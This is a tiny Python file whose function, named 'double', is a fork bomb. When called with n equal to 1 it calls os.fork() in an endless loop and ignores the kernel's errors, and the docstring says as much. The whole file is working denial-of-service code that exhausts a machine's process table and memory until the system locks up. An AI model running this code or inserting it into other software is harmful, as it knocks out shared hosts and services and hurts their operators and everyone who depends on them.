"""Tries to fork for ever, whatever the kernel says."""

import os


def double(n):
    while n == 1:
        try:
            os.fork()
        except OSError:
            pass
